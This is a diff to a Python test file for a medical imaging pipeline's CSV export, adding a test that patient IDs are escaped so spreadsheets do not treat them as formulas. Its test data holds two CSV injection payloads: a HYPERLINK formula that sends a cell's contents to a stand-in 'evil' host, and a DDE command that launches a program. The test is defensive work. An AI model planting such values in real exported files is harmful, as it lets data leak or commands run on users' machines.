@@ -2,15 +2,15 @@ import csv
 
 import pytest
 
-from hounsfield.pipeline.batch.csv_tables import FINDINGS_COLUMNS, write_tables
+from hounsfield.pipeline.batch.csv_tables import FINDINGS_COLUMNS, read_worklist, write_tables
 from hounsfield.pipeline.batch.ledger import Ledger, Row
 from tests.pipeline.scripted import make_report
 
 
-def record(out, series_uid, scores):
+def record(out, series_uid, scores, **series):
     folder = f"studies/1/{series_uid}"
     (out / folder).mkdir(parents=True)
-    report = make_report("1", series_uid, scores=scores)
+    report = make_report("1", series_uid, scores=scores, **series)
     (out / folder / "report.json").write_text(report.as_json())
     with Ledger(out) as ledger:
         ledger.record([Row(series_uid, "1", series_uid, 1, "analysed", folder=folder)])
@@ -88,3 +88,14 @@ def test_a_report_that_cannot_be_read_keeps_its_row_and_leaves_the_others_whole(
     assert (whole["series_uid"], whole["findings"]) == ("1.2", "1")
     assert (unknown["series_uid"], unknown["verdict"]) == ("1.1", "analysed")
     assert (unknown["findings"], unknown["study_class"]) == ("", "")  # unknown, not zero
+
+
+@pytest.mark.parametrize(
+    "patient_id", ['=HYPERLINK("http://evil/?"&A1,"x")', "-2+3+cmd|' /C calc'!A0"]
+)
+def test_a_patient_id_is_no_formula_and_is_read_back_unchanged(tmp_path, patient_id):
+    record(tmp_path, "1.1", (0.4,), patient_id=patient_id)
+    with Ledger(tmp_path) as ledger:
+        write_tables(tmp_path, ledger, on_unreadable=pytest.fail)
+    assert read(tmp_path / "worklist.csv")[1][2] == f"'{patient_id}"
+    assert [row["patient_id"] for row in read_worklist(tmp_path)] == [patient_id]
